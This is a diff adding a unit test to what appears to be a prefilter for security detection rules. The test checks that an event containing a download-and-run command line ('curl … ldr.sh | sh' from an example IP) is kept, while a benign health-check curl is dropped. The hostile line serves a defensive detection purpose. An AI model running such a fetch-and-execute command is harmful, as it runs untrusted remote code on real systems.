@@ -32,3 +32,9 @@ test("what Sigma rules need is kept too; null needs turn that kind of skipping o
   assert.equal(everything.port(443), true);
   assert.equal(everything.text("ls -la"), true);
 });
+
+test("download-and-run command lines are kept for the persistence and entry-vector detectors", () => {
+  const p = buildPrefilter(testIntel());
+  assert.equal(p.text('{"process":{"command_line":"sh -c curl -fsSL http://203.0.113.7/ldr.sh | sh"}}'), true);
+  assert.equal(p.text('{"process":{"command_line":"curl -s https://api.example.com/health"}}'), false);
+});
